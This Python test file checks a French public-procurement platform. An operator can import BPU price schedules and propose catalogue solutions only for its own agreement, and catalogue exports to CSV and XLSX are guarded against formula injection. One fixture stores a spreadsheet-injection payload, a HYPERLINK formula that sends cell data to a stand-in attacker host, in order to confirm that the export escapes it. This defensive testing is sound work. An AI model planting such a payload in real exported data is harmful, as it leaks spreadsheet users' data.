"""Issue 14 §1 leftovers: the titulaire's operator imports the BPU of an agreement it holds (« The coordinator (or
the titulaire's operator for the agreement) imports a version ») and records its own solution proposals (CCTP
CANUT 5.1.2 « le catalogue pourra évoluer sur la proposition du Titulaire »), which the coordinator still approves;
for an agreement it does not hold, 404 and nothing stored. The catalog a beneficiary browses exported in CSV and
XLSX with the page's filters, every text cell formula-safe."""

from __future__ import annotations

import csv
import io
import uuid

import openpyxl
from sqlalchemy import func, select

from app.audit import PlatformAuditEvent
from catalog import services as catalog
from catalog.models import BpuVersion, CatalogSolution
from tenants import services
from tenants.models import FrameworkAgreement
from tests.conftest import csrf_from, login_as, page_text

HEADER = "code_article;libelle;unite;prix_unitaire_ht;taux_tva;famille;complexite;constructeur;achat_location"
GOOD = f"{HEADER}\nIOT-CAP-HUM;Capteur d'humidité;unité;64,50;20;Fourniture;;Adeunis;achat\n"
OPERATOR = "titulaire-iot@exemple.fr"
ACTOR = {"user_id": None, "label": "test"}


async def _setup(db, demo) -> dict[str, uuid.UUID]:
    """An operator of Villeurbanne only: it holds the CANUT IoT agreement, not the CPAM's."""
    commune = uuid.UUID(demo["tenant_ids"]["commune"])
    async with db.transaction([commune], actor=ACTOR) as session:
        await services.add_member(session, commune, {"email": OPERATOR, "role": "operator",
                                                     "full_name": "Titulaire IoT", "password": "Centrale-demo-2026"})
        ids = {a.reference: a.id for a in await session.scalars(select(FrameworkAgreement))}
    return {"iot": ids["2024_AOO_IOT"], "cpam": ids["2025-CPAM72-IRVE"], "commune": commune}


async def _count(db, model, **where) -> int:
    async with db.session() as session:
        query = select(func.count()).select_from(model)
        for name, value in where.items():
            query = query.where(getattr(model, name) == value)
        return await session.scalar(query)


async def test_the_operator_imports_the_bpu_of_its_agreement_through_the_api(client, db, demo, api_token):
    ids = await _setup(db, demo)
    operator = await api_token(OPERATOR)
    before = await _count(db, BpuVersion, agreement_id=ids["cpam"])
    # Issue 14 §1: « the titulaire's operator for the agreement imports a version ».
    made = await client.post(f"/api/v1/agreements/{ids['iot']}/bpu?valid_from=2026-01-01", headers=operator,
                             content=GOOD.encode())
    assert made.status_code == 201, made.text
    assert (made.json()["version"], made.json()["imported_by"]) == (2, OPERATOR)
    async with db.session() as session:
        audit = await session.scalar(select(PlatformAuditEvent).where(
            PlatformAuditEvent.entity == "bpu_versions", PlatformAuditEvent.entity_id == made.json()["id"]))
        assert audit is not None and audit.action == "create" and audit.actor_label == f"{OPERATOR} (API)"
    # An agreement it does not hold: 404 like a missing one, nothing stored.
    refused = await client.post(f"/api/v1/agreements/{ids['cpam']}/bpu", headers=operator, content=GOOD.encode())
    assert refused.status_code == 404
    assert await _count(db, BpuVersion, agreement_id=ids["cpam"]) == before
    # A member of a subscriber who is not its titulaire's operator (its admin): 404 too.
    admin = await api_token("admin@villeurbanne.demo")
    assert (await client.post(f"/api/v1/agreements/{ids['iot']}/bpu", headers=admin,
                              content=GOOD.encode())).status_code == 404


async def test_the_operator_proposes_and_the_coordinator_approves_through_the_api(client, db, demo, api_token):
    ids = await _setup(db, demo)
    operator, coordinator = await api_token(OPERATOR), await api_token("coordination@canut.demo")
    body = {"code": "SOL-HUM", "name": "Suivi de l'humidité des écoles", "price_ht": "950.00", "maker": "Adeunis",
            "article_code": "IOT-CAP-TEMP", "characteristics": [{"name": "Autonomie", "unit": "ans", "value": "10"}]}
    # CCTP CANUT 5.1.2: the titulaire proposes; the solution is « proposée » until the coordinator approves it.
    proposed = await client.post(f"/api/v1/agreements/{ids['iot']}/solutions", headers=operator, json=body)
    assert proposed.status_code == 201, proposed.text
    solution = proposed.json()
    assert solution["status"] == "proposed" and solution["history"][0]["actor"] == OPERATOR
    url = f"/api/v1/agreements/{ids['iot']}/solutions/{solution['id']}"
    assert (await client.post(f"{url}/approve", headers=operator)).status_code == 404
    assert (await client.post(f"{url}/withdraw", headers=operator,
                              json={"effective_on": "2030-01-01"})).status_code == 404
    approved = await client.post(f"{url}/approve", headers=coordinator)
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    before = await _count(db, CatalogSolution)
    other = await client.post(f"/api/v1/agreements/{ids['cpam']}/solutions", headers=operator,
                              json={**body, "code": "SOL-AUTRE"})
    assert other.status_code == 404 and await _count(db, CatalogSolution) == before


async def test_the_operators_pages_import_and_propose_for_its_agreement_only(client, db, demo):
    ids = await _setup(db, demo)
    await login_as(client, OPERATOR)
    page = await client.get("/operateur/accords")
    assert page.status_code == 200
    text = page_text(page)
    assert "2024_AOO_IOT" in text and "2025-CPAM72-IRVE" not in text and "Importer une version du BPU" in text
    token = csrf_from(page.text)
    imported = await client.post(f"/operateur/accords/{ids['iot']}/bpu", follow_redirects=False,
                                 data={"_csrf_token": token, "valid_from": "2026-01-01"},
                                 files={"file": ("bpu-iot.csv", GOOD.encode(), "text/csv")})
    assert imported.status_code == 303 and imported.headers["location"].startswith("/operateur/accords#accord-")
    assert "bpu-iot.csv" in page_text(await client.get("/operateur/accords"))
    before = await _count(db, BpuVersion, agreement_id=ids["cpam"])
    other = await client.post(f"/operateur/accords/{ids['cpam']}/bpu", follow_redirects=False,
                              data={"_csrf_token": token}, files={"file": ("bpu.csv", GOOD.encode(), "text/csv")})
    assert other.status_code == 404 and await _count(db, BpuVersion, agreement_id=ids["cpam"]) == before
    # CCTP CANUT 5.1.2: its own proposal, on the coordinator's form.
    base = f"/operateur/accords/{ids['iot']}/solutions"
    form = await client.get(f"{base}/nouvelle")
    assert form.status_code == 200 and "Proposer une solution au catalogue" in page_text(form)
    made = await client.post(f"{base}/nouvelle", follow_redirects=False, data={
        "_csrf_token": csrf_from(form.text), "code": "SOL-PARK", "name": "Capteurs de stationnement",
        "price_ht": "1 200,00", "car_name_1": "Autonomie", "car_unit_1": "ans", "car_value_1": "8"})
    assert made.status_code == 303, made.text
    listing = page_text(await client.get(base))
    assert "SOL-PARK — Capteurs de stationnement" in listing and f"par {OPERATOR}" in listing
    assert "Approuver" not in listing and "Retirer…" not in listing  # the coordinator decides
    assert (await client.get(f"/operateur/accords/{ids['cpam']}/solutions")).status_code == 404
    assert (await client.get(f"/operateur/accords/{ids['cpam']}/solutions/nouvelle")).status_code == 404
    # The coordinator approves it on its page.
    await login_as(client, "coordination@canut.demo")
    assert "SOL-PARK" in page_text(await client.get(f"/c/CANUT/accords/{ids['iot']}/solutions"))
    # Someone who is not an operator anywhere has no operator space.
    await login_as(client, "admin@villeurbanne.demo")
    assert (await client.get("/operateur/accords")).status_code == 404


async def _formula_solution(db, demo) -> None:
    """An approved solution of the CANUT agreement whose name and maker would start formulas."""
    commune = uuid.UUID(demo["tenant_ids"]["commune"])
    async with db.transaction([commune], actor=ACTOR) as session:
        agreement = await catalog.get_agreement_by_reference(session, "2024_AOO_IOT")
        solution = await catalog.propose_solution(session, agreement, {
            "code": "SOL-FORM", "name": '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "maker": "@Kerlink",
            "price_ht": "1500", "article_code": "IOT-GW-OUT"})
        await catalog.approve_solution(session, agreement, solution.id)


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_the_catalog_export_in_csv_with_the_pages_filters_and_formula_safe(client, db, demo):
    await _formula_solution(db, demo)
    commune = demo["tenant_ids"]["commune"]
    await login_as(client, "admin@villeurbanne.demo")
    page = page_text(await client.get(f"/t/{commune}/catalogue?constructeur=Kerlink"))
    assert f"/t/{commune}/catalogue.csv?q=&famille=&constructeur=Kerlink" in page
    whole = await client.get(f"/t/{commune}/catalogue.csv")
    assert whole.status_code == 200 and whole.headers["content-type"].startswith("text/csv")
    rows = _csv_rows(whole.content)
    articles = [r for r in rows if r["Type"] == "Article du BPU"]
    assert [r["Code"] for r in articles][:3] == ["IOT-CAP-CO2", "IOT-CAP-TEMP", "IOT-GW-LOC"] and len(articles) == 7
    gateway = next(r for r in articles if r["Code"] == "IOT-GW-OUT")
    assert (gateway["Prix unitaire HT (€)"], gateway["Taux de TVA (%)"], gateway["Prix unitaire TTC (€)"],
            gateway["Famille"], gateway["Accord-cadre"]) == ("1250.0000", "20.00", "1500.00", "Fourniture",
                                                             "2024_AOO_IOT")
    [solution] = [r for r in rows if r["Type"] == "Solution du catalogue"]
    # OWASP « CSV injection »: a cell starting with = + - @ is written after an apostrophe.
    assert solution["Libellé"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    assert solution["Constructeur"] == "'@Kerlink"
    assert (solution["Article du BPU"], solution["Prix HT en vigueur de l'article (€)"],
            solution["Prix unitaire HT (€)"]) == ("IOT-GW-OUT", "1250.0000", "1500.0000")
    # The page's filters: the maker (the solution's maker is « @Kerlink », not « Kerlink »), the family, the search.
    kerlink = _csv_rows((await client.get(f"/t/{commune}/catalogue.csv?constructeur=Kerlink")).content)
    assert [r["Code"] for r in kerlink] == ["IOT-GW-LOC", "IOT-GW-OUT"]
    services_only = _csv_rows((await client.get(f"/t/{commune}/catalogue.csv?famille=service")).content)
    assert [r["Code"] for r in services_only] == ["IOT-INT-C", "IOT-INT-M", "IOT-INT-S"]
    searched = _csv_rows((await client.get(f"/t/{commune}/catalogue.csv?q=hyperlink")).content)
    assert [r["Code"] for r in searched] == ["SOL-FORM"]


async def test_the_catalog_export_in_xlsx_and_through_the_api(client, db, demo, api_token):
    await _formula_solution(db, demo)
    commune = demo["tenant_ids"]["commune"]
    viewer = await api_token("admin@villeurbanne.demo")
    url = f"/api/v1/tenants/{commune}/catalog/export"
    xlsx = await client.get(f"{url}?format=xlsx&family=supply", headers=viewer)
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header[:3] == ["Type", "Code", "Libellé"]
    assert [r[1] for r in rows] == ["IOT-CAP-CO2", "IOT-CAP-TEMP", "IOT-GW-LOC", "IOT-GW-OUT", "SOL-FORM"]
    temp = rows[1]
    assert temp[header.index("Prix unitaire HT (€)")] == 89.9  # a number, not text
    assert temp[header.index("Prix unitaire TTC (€)")] == 107.88
    formula = rows[-1]
    assert formula[header.index("Libellé")].startswith("'=HYPERLINK(")
    assert formula[header.index("Constructeur")] == "'@Kerlink"
    as_csv = _csv_rows((await client.get(f"{url}?search=IOT-INT", headers=viewer)).content)
    assert [r["Code"] for r in as_csv] == ["IOT-INT-C", "IOT-INT-M", "IOT-INT-S"]
    assert (await client.get(f"{url}?format=pdf", headers=viewer)).status_code == 422
    assert (await client.get(f"{url}?family=inconnue", headers=viewer)).status_code == 422
    # Another tenant's catalog: 404 (the tenant wall).
    other = await api_token("admin@cpam72.demo")
    assert (await client.get(url, headers=other)).status_code == 404
    assert (await client.get(f"/api/v1/tenants/{commune}/catalog/export", headers=other)).status_code == 404
